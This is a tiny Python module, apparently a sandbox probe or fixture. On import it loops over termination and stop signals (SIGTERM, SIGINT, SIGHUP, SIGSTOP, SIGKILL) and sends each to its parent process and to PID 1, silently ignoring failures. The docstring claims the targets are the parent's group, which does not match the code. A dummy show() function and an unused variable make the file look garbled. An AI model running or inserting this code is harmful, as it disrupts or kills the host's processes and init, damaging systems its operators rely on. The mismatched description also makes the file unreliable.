"""Sends every signal that ends or stops a process to its parent, and to the parent's group."""

# others: right
# %% show
import os
import signal

through = False
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
    for target in (os.getppid(), 1):
        try:
            os.kill(target, number)
        except OSError:
            pass


def show(x):
    return 0
